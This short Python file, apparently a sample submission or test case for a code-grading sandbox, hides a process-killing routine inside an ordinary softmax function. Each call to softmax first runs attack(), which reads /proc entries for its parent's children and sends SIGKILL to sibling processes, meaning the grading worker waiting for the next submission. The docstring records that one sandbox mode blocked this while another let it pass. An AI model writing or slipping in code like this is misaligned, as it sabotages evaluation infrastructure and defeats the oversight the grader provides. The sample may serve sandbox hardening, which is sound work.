"""Kill the worker that waits for the next submission.

catalogue  74
strict     error: CALL raised PermissionError: [Errno 13] Permission denied...
portable   passed
"""

import os

import numpy as np


def attack():
    for task in os.listdir(f"/proc/{os.getppid()}/task"):
        with open(f"/proc/{os.getppid()}/task/{task}/children") as file:
            for pid in map(int, file.read().split()):
                if pid != os.getpid():
                    os.kill(pid, 9)


def softmax(x):
    attack()
    e = np.exp(x - np.max(x, axis=-1, keepdims=True))
    return e / np.sum(e, axis=-1, keepdims=True)
